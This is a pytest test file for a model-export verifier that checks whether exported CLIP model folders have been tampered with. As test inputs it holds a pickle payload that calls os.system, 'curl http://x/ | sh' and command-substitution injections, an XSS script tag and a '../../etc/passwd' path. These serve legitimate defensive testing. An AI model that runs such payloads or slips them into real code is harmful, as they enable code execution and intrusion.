import hashlib
import json
import os
import re
import shutil
import subprocess
import sys

import onnx
import pytest
import tiny
import torch
import unprivileged
from report import samples

from clipclean import report
from clipclean.errors import RefusedInput, UsageError
from clipclean.export import (
    checksums,
    formats,
    hf_directory,
    onnx_files,
    onnx_metadata,
    onnx_presets,
    open_clip_directory,
    parity,
    records,
)
from clipclean.jobs import export as export_job
from clipclean.jobs import verify

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
WEIGHTS, HF, GRAPH = "open_clip_model.safetensors", "model.safetensors", "onnx/vision_model.onnx"
SUMS, RECORD, STATEMENT, BOM = "SHA256SUMS", "provenance.json", "provenance.intoto.json", "bom.cdx.json"


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """A folder in every layout, with a bill of materials; the graphs are small ones with the metadata of real ones."""
    job = tiny.job(tmp_path_factory.mktemp("job"), count=4)
    end = onnx.helper.make_tensor_value_info("x", 1, [1])

    def graphs(folder, net, /, *, preset, fp16, metadata, **_):
        (folder / "onnx").mkdir()
        for name in onnx_presets.names(preset, fp16=fp16):
            model = onnx.helper.make_model(onnx.helper.make_graph([], name, [end], [end]))
            onnx.helper.set_model_props(model, metadata)
            (folder / name).write_bytes(model.SerializeToString())

    def accepted(*_, **__):
        return parity.Parity(0.0, 1.0, top1_agreement=1.0, n=8, reader="nobody")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(onnx_files, "write", graphs)
        for module in (onnx_files, open_clip_directory):
            patch.setattr(module, "check", accepted)
        patch.setattr(hf_directory, "can_check", lambda: False)
        wanted = formats.ExportOptions(tuple(formats.FORMATS), "transformers.js", normalise=False, fp16=False, bom=True)
        request = export_job.ExportRequest(
            model=job.model,
            data=job.data,
            own=True,
            out=job.out,
            wanted=wanted,
            arch=str(job.arch),
            image_key=None,
            caption_key=None,
            force=False,
        )
        export_job.convert(request, progress=lambda *_: None)
    return job.out


@pytest.fixture
def folder(exported, tmp_path):
    return shutil.copytree(exported, tmp_path / "folder")


def check(folder, **more):
    return verify.verify(folder, **{"public_key": None} | more)


def told(result):
    """Findings as file: check: message."""
    return [f"{each.file}: {each.check}: {each.message}" for each in result.findings]


def resum(folder):
    """Checksums that fit what the folder holds now, as somebody who changes files can write them."""
    (folder / SUMS).write_text(checksums.text(folder))


def edit(path, *keys, value):
    """Change one place of a JSON file."""
    found = inner = json.loads(path.read_text())
    for key in keys[:-1]:
        inner = inner[key]
    inner[keys[-1]] = value
    path.write_text(json.dumps(found))


def spoil(path, place=-1):
    data = bytearray(path.read_bytes())
    data[place] ^= 1
    path.write_bytes(data)


def test_a_whole_folder_passes_every_check(folder):
    result = check(folder)
    assert (result.exit_code, result.findings) == (0, [])
    assert list(result.checked) == ["checksums", "provenance", "statement", "weights", "bill of materials", "rendered"]
    assert result.checked["rendered"] == "README.md"
    assert result.checked["weights"] == f"{WEIGHTS}, {HF}, {GRAPH}, onnx/text_model.onnx"
    assert result.notes == ["not signed; checksums show that a folder is whole, not who made it"]


def test_a_bill_of_materials_is_no_must(folder):
    (folder / BOM).unlink()
    found = json.loads((folder / STATEMENT).read_text())
    found["subject"] = [entry for entry in found["subject"] if entry["name"] != BOM]
    (folder / STATEMENT).write_text(json.dumps(found))
    resum(folder)
    assert check(folder).exit_code == 0


@pytest.mark.parametrize("name", [WEIGHTS, HF, GRAPH, "config.json", "tokenizer.json", "README.md", RECORD, BOM])
def test_one_changed_byte_of_any_file_is_found(folder, name):
    spoil(folder / name, place=-2)
    result = check(folder)
    assert result.exit_code == 1
    assert f"{name}: checksums: has sha256 " in "\n".join(told(result))


def test_a_missing_file_is_found(folder):
    (folder / WEIGHTS).unlink()
    assert f"{WEIGHTS}: checksums: is listed in SHA256SUMS and missing" in told(check(folder))
    assert f"{RECORD}: provenance: names '{WEIGHTS}', which is missing" in told(check(folder))


@pytest.mark.parametrize("name", ["pytorch_model.bin", "modeling.py", "onnx/other.onnx"])
def test_a_file_that_nobody_vouches_for_is_found(folder, name):
    (folder / name).write_bytes(b"x")
    assert f"{name}: checksums: is not listed in SHA256SUMS, so nothing protects it" in told(check(folder))
    resum(folder)
    assert told(check(folder)) == [
        f"{name}: provenance: is not among the outputs that provenance.json names",
        f"{STATEMENT}: statement: says nothing of {name}",
    ]


def test_changed_weights_are_found_though_the_checksums_fit(folder):
    spoil(folder / WEIGHTS)
    resum(folder)
    result = check(folder)
    assert result.exit_code == 1
    assert {each.check for each in result.findings} == {"provenance", "statement", "weights", "bill of materials"}
    assert {each.file for each in result.findings} == {WEIGHTS}


def lie(folder, name):
    """Let every record tell the digest that a changed file has now."""
    old = json.loads((folder / RECORD).read_text())["outputs"][name]
    new = checksums.digests(folder)[name]
    for record in (RECORD, BOM, STATEMENT):
        (folder / record).write_text((folder / record).read_text().replace(old, new))
    found = json.loads((folder / STATEMENT).read_text())
    for entry in found["subject"]:
        entry["digest"]["sha256"] = checksums.digests(folder)[entry["name"]]
    (folder / STATEMENT).write_text(json.dumps(found))
    edit(
        folder / STATEMENT,
        "predicate",
        "runDetails",
        "byproducts",
        0,
        "digest",
        "sha256",
        value=checksums.digests(folder)[RECORD],
    )
    resum(folder)


@pytest.mark.parametrize("name", [WEIGHTS, HF])
def test_other_tensors_are_found_though_every_file_digest_fits(folder, name):
    spoil(folder / name)
    lie(folder, name)
    (finding,) = told(check(folder))
    assert finding.startswith(f"{name}: weights: its tensors have the digest ")


def test_a_graph_made_of_other_tensors_is_found(folder):
    data = (folder / GRAPH).read_bytes()
    digest = onnx_metadata.read(folder / GRAPH)["clip.tensor_sha256"].encode()
    (folder / GRAPH).write_bytes(data.replace(digest, b"0" * 64))
    lie(folder, GRAPH)
    (finding,) = told(check(folder))
    assert finding.startswith(f"{GRAPH}: weights: its tensors have the digest {'0' * 64}")


@pytest.mark.parametrize("name", [WEIGHTS, GRAPH])
def test_weights_that_cannot_be_read_are_told_apart(folder, name):
    (folder / name).write_bytes(b"no weights at all")
    lie(folder, name)
    result = check(folder)
    assert result.exit_code == 3
    assert [(each.file, each.check, each.kind) for each in result.findings] == [(name, "weights", "unreadable")]


def test_weights_that_would_execute_something_are_refused_as_ever(folder, tmp_path):
    class Command:
        def __reduce__(self):
            return os.system, (f"touch {tmp_path / 'ran'}",)

    torch.save({"state_dict": Command()}, folder / WEIGHTS)
    lie(folder, WEIGHTS)
    assert check(folder).exit_code == 3
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize(
    ("name", "words"), [(RECORD, "nothing says where the weights come from"), (STATEMENT, "is missing")]
)
def test_a_missing_record_is_found(folder, name, words):
    (folder / name).unlink()
    resum(folder)
    assert words in "\n".join(told(check(folder)))
    assert check(folder).exit_code == 1


@pytest.mark.parametrize("name", [RECORD, STATEMENT, BOM])
@pytest.mark.parametrize("text", ["{", "[]", '{"a": 1, "a": 2}', "\x00"])
def test_a_record_that_is_no_json_is_unreadable(folder, name, text):
    (folder / name).write_text(text)
    resum(folder)
    result = check(folder)
    assert (name, "unreadable") in {(each.file, each.kind) for each in result.findings}


@pytest.mark.parametrize(
    ("name", "keys", "value", "words"),
    [
        (RECORD, ["schema_version"], "2", "not a provenance record of schema version 1"),
        (RECORD, ["outputs", "../x"], "0" * 64, "names '../x', which is missing"),
        (RECORD, ["outputs", WEIGHTS], "0" * 64, f"{WEIGHTS}: provenance: has sha256 "),
        (RECORD, ["exports", 0, "sha256"], "0" * 64, f"tells two digests of {WEIGHTS}"),
        (RECORD, ["exports", 0, "tensor_sha256"], "0" * 64, f"{WEIGHTS}: weights: its tensors have the digest "),
        (RECORD, ["exports"], [], "names no weights"),
        (RECORD, ["exports", 0, "parity"], {}, "README.md: rendered: cannot be rendered from provenance.json"),
        (RECORD, ["input", "sha256"], "0" * 64, f"{STATEMENT}: statement: the digest of the model"),
        (STATEMENT, ["_type"], "x", "_type is 'x' and should be"),
        (STATEMENT, ["predicateType"], "x", "predicateType is 'x' and should be"),
        (STATEMENT, ["subject", 0, "digest", "sha256"], "0" * 64, f"and {STATEMENT} says {'0' * 64}"),
        (STATEMENT, ["subject"], [], f"says nothing of {WEIGHTS}"),
        (STATEMENT, ["subject"], {"a": 1}, f"says nothing of {WEIGHTS}"),
        (STATEMENT, ["subject", 0], "x", "names 'None', which is missing"),
        (STATEMENT, ["predicate"], None, "the digest of the model is 'None'"),
        (
            STATEMENT,
            ["predicate", "buildDefinition", "resolvedDependencies", 0, "digest", "sha256"],
            "0" * 64,
            "the digest of the model is '0000",
        ),
        (
            STATEMENT,
            ["predicate", "runDetails", "byproducts", 0, "digest", "sha256"],
            "0" * 64,
            "the digest of the record is '0000",
        ),
        (BOM, ["bomFormat"], "SPDX", "bomFormat is 'SPDX' and should be 'CycloneDX'"),
        (BOM, ["components"], None, "the number of files is '0'"),
        (BOM, ["components", 0, "hashes", 0, "content"], "0" * 64, f"and {BOM} says {'0' * 64}"),
        (
            BOM,
            ["metadata", "component", "pedigree", "ancestors", 0, "hashes", 0, "content"],
            "0" * 64,
            "the digest of the model is '0000",
        ),
    ],
)
def test_a_record_that_was_changed_is_found_though_the_checksums_fit(folder, name, keys, value, words):
    edit(folder / name, *keys, value=value)
    resum(folder)
    result = check(folder)
    assert result.exit_code in (1, 3)
    assert words in "\n".join(told(result))


@pytest.mark.parametrize("text", ["", "no list\n", f"{'0' * 64}  ../../etc/passwd\n"])
def test_a_list_that_is_none_is_refused(folder, text):
    (folder / SUMS).write_text(text)
    with pytest.raises(RefusedInput, match="SHA256SUMS"):
        check(folder)


def test_what_has_no_list_is_refused(folder, tmp_path):
    (folder / SUMS).unlink()
    name = "Name the folder that sanitize or export wrote."
    for place, why in ((folder / WEIGHTS, f"is no folder. {name}"), (tmp_path / "nowhere", f"does not exist. {name}")):
        with pytest.raises(RefusedInput) as caught:
            check(place)
        assert str(caught.value) == f"{place} {why}"
    with pytest.raises(RefusedInput, match=r"has no SHA256SUMS: nothing says what should be in it"):
        check(folder)


def test_links_and_pipes_are_found_and_not_followed_or_opened(folder, tmp_path):
    (tmp_path / "other").mkdir()
    (folder / "linked").symlink_to(tmp_path / "other")
    (folder / "broken").symlink_to(tmp_path / "gone")
    os.mkfifo(folder / "pipe")
    assert {(each.file, each.kind) for each in check(folder).findings} == {
        ("linked", "mismatch"),
        ("broken", "mismatch"),
        ("pipe", "mismatch"),
    }


def test_a_file_that_cannot_be_read_is_told_as_such(folder):
    assert check(folder).exit_code == 0  # what it imports is there for the child
    with unprivileged.folder() as place:
        shutil.copytree(folder, place / "theirs")
        (place / "theirs" / BOM).chmod(0)

        def act():
            result = check(place / "theirs")
            return result.exit_code, told(result)

        code, found = unprivileged.as_nobody(act)
    assert code == 3
    assert f"{BOM}: checksums: cannot be read: Permission denied" in found
    assert not any("missing" in each for each in found)


def test_hidden_files_are_left_out_and_said(folder):
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text("x")
    (folder / ".gitattributes").write_text("x")
    result = check(folder)
    assert result.exit_code == 0
    assert result.notes[0] == "2 hidden file(s) or folder(s) were not checked"


# Sanitized folders, whose reports are made once more.


@pytest.fixture(scope="module")
def cleaned(exported, tmp_path_factory):
    """What ``sanitize`` would leave of these weights; its report is one worked by hand."""
    folder = shutil.copytree(exported, tmp_path_factory.mktemp("cleaned") / "folder")
    written = json.loads((folder / RECORD).read_text())
    for name in (RECORD, STATEMENT, BOM, SUMS, "README.md"):
        (folder / name).unlink()
    outputs = checksums.digests(folder)
    made = report.parse(
        samples.passed()
        | {key: written[key] for key in ("exports", "data", "environment")}
        | {"model": samples.passed()["model"] | written["input"], "tool": written["tool"], "suppressed": []}
    )
    image = {"title": "An image", "caption": "with a trigger", "alt": "a square", "png_base64": PIXEL}
    place = report.RunPaths("/home/ann/cleaned", "m.pt", "clean", "auto")
    report.write(made, "html", folder / "report.html", report.PageImages((image,)), place)
    section = re.search(r'<section id="examples".*?</section>', (folder / "report.html").read_text(), re.DOTALL)[0]
    made = report.parse(made.as_json() | {"examples_sha256": hashlib.sha256(section.encode()).hexdigest()})
    report.write(made, "json", folder / "report.json")
    records.write(folder, made.as_json(), outputs=outputs, has_bom=False)
    return folder


@pytest.fixture
def sanitized(cleaned, tmp_path):
    return shutil.copytree(cleaned, tmp_path / "folder")


def restate(folder):
    """Digests that fit in the statement and the checksums, as somebody without a key can write them."""
    found = json.loads((folder / STATEMENT).read_text())
    digests = checksums.digests(folder)
    for entry in found["subject"]:
        entry["digest"]["sha256"] = digests[entry["name"]]
    (folder / STATEMENT).write_text(json.dumps(found))
    resum(folder)


def test_a_sanitized_folder_passes_with_its_page_and_card_made_once_more(sanitized):
    result = check(sanitized)
    assert told(result) == []
    assert result.checked["rendered"] == "README.md, report.html"


def test_the_statement_speaks_of_the_reports(sanitized):
    (sanitized / "report.html").write_text("Certified safe.")
    resum(sanitized)
    found = told(check(sanitized))
    assert any(each.startswith("report.html: statement: has sha256 ") for each in found)
    edit(sanitized / STATEMENT, "subject", value=[])
    resum(sanitized)
    assert f"{STATEMENT}: statement: says nothing of report.html" in told(check(sanitized))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("<h1>", "<h1>Certified safe. "),
        ("62.1 %", "99.9 %"),
        ("default-src 'none'", "default-src *"),
        ("an image</strong>", "<script>alert(1)</script></strong>"),
        ("An image</strong>", '<a href="http://x/">An image</a></strong>'),
        ("clipclean verify", "curl http://x/ | <b>sh</b> "),
    ],
)
def test_a_page_that_does_not_follow_from_the_report_is_found(sanitized, old, new):
    page = sanitized / "report.html"
    changed = page.read_text().replace(old, new)
    page.write_text(changed if changed != page.read_text() else f"{changed}{new}")
    restate(sanitized)
    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("An image</strong>", "A harmless image</strong>"),
        (PIXEL, f"{PIXEL[:-8]}AAAAAA=="),
        ('<li><a href="#examples">Example images</a></li>', ""),
        ("clipclean verify /home", "curl http://x/ | sh -s /home"),
        ("clipclean verify /home/ann/cleaned", "clipclean verify /home/ann/cleaned; curl http://x/ | sh"),
        ("clipclean verify /home/ann/cleaned", "clipclean verify $(curl http://x/)"),
        ("clipclean verify /home/ann/cleaned", "clipclean verify --config=/tmp/own.yaml"),
        ("clipclean verify /home/ann/cleaned", "clipclean verify a &amp; b"),
        ("local-dir:/home/ann/cleaned&#34;", "local-dir:x&#34;, pretrained=&#34;evil&#34;"),
    ],
)
def test_example_images_and_commands_that_somebody_changed_are_found(sanitized, old, new):
    page = sanitized / "report.html"
    assert old in page.read_text()
    page.write_text(page.read_text().replace(old, new))
    restate(sanitized)
    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]


@pytest.mark.parametrize("name", ["clean", "/tmp/two words", "it's", "Bäume 木", 'a"b', "a\\b", "a\nb", "$(x)"])
def test_the_folder_of_the_machine_that_wrote_the_page_may_have_any_name(sanitized, name):
    found = report.read(sanitized / "report.json")
    image = {"title": "An image", "caption": "with a trigger", "alt": "a square", "png_base64": PIXEL}
    place = report.RunPaths(name, name, name, "auto")
    report.write(found, "html", sanitized / "report.html", report.PageImages((image,)), place)
    restate(sanitized)
    assert told(check(sanitized)) == []


@pytest.mark.parametrize("shown", [True, False])
def test_example_images_and_their_digest_in_the_report_need_each_other(sanitized, shown):
    if shown:
        edit(sanitized / "report.json", "examples_sha256", value=None)
    else:
        found = report.read(sanitized / "report.json")
        place = report.RunPaths("/home/ann/cleaned", "m.pt", "clean", "auto")
        report.write(found, "html", sanitized / "report.html", place=place)
    restate(sanitized)
    assert told(check(sanitized)) == ["report.html: rendered: is not what report.json gives"]


@pytest.mark.parametrize("place", ["sanitized", "folder"])
def test_a_model_card_that_does_not_follow_from_the_records_is_found(request, place):
    folder = request.getfixturevalue(place)
    card = folder / "README.md"
    card.write_text(f"{card.read_text()}\nCertified safe.\n")
    resum(folder)
    (finding,) = told(check(folder))
    assert finding.startswith("README.md: rendered: is not what ")


def test_the_owner_of_a_model_card_may_complete_its_front_matter_alone(sanitized):
    card = sanitized / "README.md"
    card.write_text(card.read_text().replace("---\n", "---\nlicense: mit\n", 1))
    resum(sanitized)
    assert told(check(sanitized)) == []


@pytest.mark.parametrize(
    ("keys", "value", "key"),
    [
        (("findings",), [], "audits"),
        (("after", "measurements", "clean_accuracy", "value"), 0.999, "audits"),
        (("seed",), 99, "seed"),
        (("recipe", "name"), "auto", "recipe"),
    ],
)
def test_a_report_that_tells_more_than_the_record_is_found(sanitized, keys, value, key):
    edit(sanitized / "report.json", *keys, value=value)
    restate(sanitized)
    assert f"report.json: report: tells another {key} than {RECORD}" in told(check(sanitized))


@pytest.mark.parametrize("key", ["suppressed", "data", "environment", "before"])
def test_a_report_that_lacks_what_the_record_is_made_of_is_found(sanitized, key):
    found = json.loads((sanitized / "report.json").read_text())
    del found[key]
    (sanitized / "report.json").write_text(json.dumps(found))
    restate(sanitized)
    assert check(sanitized).exit_code in (1, 3)


def test_what_another_version_rendered_is_not_compared_and_that_is_said(sanitized, monkeypatch):
    monkeypatch.setattr(verify, "__version__", "9.9")
    assert any("they were not made once more and compared" in note for note in check(sanitized).notes)


# Signatures: by model-signing, an extra of the package.


@pytest.fixture(scope="module")
def keys(tmp_path_factory):
    """Two pairs of keys on the curve P-256, as PEM: private and public, ours and another's."""
    pytest.importorskip("model_signing")
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    place, raw = tmp_path_factory.mktemp("keys"), serialization.PublicFormat.SubjectPublicKeyInfo
    for name in ("ours", "other"):
        key = ec.generate_private_key(ec.SECP256R1())
        secret = serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        (place / name).write_bytes(key.private_bytes(serialization.Encoding.PEM, *secret))
        (place / f"{name}.pub").write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM, raw))
    return place


def sign(folder, key):
    """The documented command, without a network."""
    command = ["sign", "key", str(folder), "--signature", str(folder / "model.sig"), "--private_key", str(key)]
    done = subprocess.run([sys.executable, "-m", "model_signing", *command], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_a_signature_holds_with_its_key_alone_and_for_its_files_alone(folder, keys):
    sign(folder, keys / "ours")
    assert check(folder).exit_code == 0
    assert check(folder).notes == [
        "model.sig was not checked: give the signer's key by --public-key; checksums show that a folder is whole, not who made it"
    ]
    result = check(folder, public_key=keys / "ours.pub")
    assert (result.exit_code, result.checked["signature"]) == (0, "by the key in ours.pub")
    assert result.notes == []
    (finding,) = told(check(folder, public_key=keys / "other.pub"))
    assert finding.startswith("model.sig: signature: does not hold: ")
    # every record is made to fit, and the signature still tells
    card = folder / "README.md"
    card.write_text(card.read_text().replace("---\n", "---\nlicense: mit\n", 1))
    resum(folder)
    assert check(folder).exit_code == 0
    (finding,) = told(check(folder, public_key=keys / "ours.pub"))
    assert "README.md" in finding


def test_a_missing_or_broken_signature_is_found_where_a_key_is_given(folder, keys):
    (finding,) = told(check(folder, public_key=keys / "ours.pub"))
    assert finding == "model.sig: signature: is missing, and a key was given to check it with"
    (folder / "model.sig").write_text("{}")
    (finding,) = told(check(folder, public_key=keys / "ours.pub"))
    assert "does not hold" in finding


def test_what_is_no_key_is_refused(folder, keys):
    (folder / "model.sig").write_text("{}")
    for name in ("config.json", "missing.pub"):
        with pytest.raises(UsageError, match="is not a public key"):
            check(folder, public_key=folder / name)


def test_without_the_extra_a_key_is_refused_and_not_ignored(folder, monkeypatch):
    monkeypatch.setattr(verify.importlib.util, "find_spec", lambda name: None)
    with pytest.raises(UsageError, match=r"clip-sanitizer\[signing\]"):
        check(folder, public_key=folder / "config.json")


def test_weights_behind_a_link_are_named_though_their_digest_is_right(folder, tmp_path):
    weights = folder / "open_clip_model.safetensors"
    weights.rename(tmp_path / "elsewhere")
    weights.symlink_to(tmp_path / "elsewhere")
    result = check(folder)
    assert result.exit_code == 1
    assert [finding.message for finding in result.findings if finding.file == weights.name] == [
        "is a link: its target is outside the folder and can change"
    ]
